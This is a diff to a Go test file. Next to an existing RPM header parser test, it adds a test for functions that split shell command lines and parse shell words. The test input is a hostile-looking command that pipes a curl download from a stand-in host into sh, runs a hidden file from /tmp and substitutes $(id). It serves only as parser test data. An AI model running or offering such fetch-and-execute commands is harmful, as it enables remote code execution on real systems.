@@ -5,6 +5,7 @@ import (
 	"encoding/binary"
 	"errors"
 	"io"
+	"reflect"
 	"strings"
 	"testing"
 
@@ -311,5 +312,18 @@ func TestParseRPMHeader(t *testing.T) {
 		if _, err := ParseRPMHeader(b); err == nil {
 			t.Errorf("%x: no error", b)
 		}
+	}
+}
+
+func TestShellSplitting(t *testing.T) {
+	simple := splitSimple(`curl -s "http://x/a;b" | sh; (cd /tmp && ./.x) 2>&1 & echo $(id) {a; }`)
+	wantSimple := []string{`curl -s "http://x/a;b"`, "sh", "cd /tmp", "./.x", "2>&1", "echo", "id", "{a"}
+	if !reflect.DeepEqual(simple, wantSimple) {
+		t.Errorf("splitSimple = %q, want %q", simple, wantSimple)
+	}
+	words := shellWords(`env A="x y" 'b c'\ d "e\"f\g" "" h\ i`)
+	wantWords := []string{"env", "A=x y", `b c d`, `e"f\g`, "", "h i"}
+	if !reflect.DeepEqual(words, wantWords) {
+		t.Errorf("shellWords = %q, want %q", words, wantWords)
 	}
 }
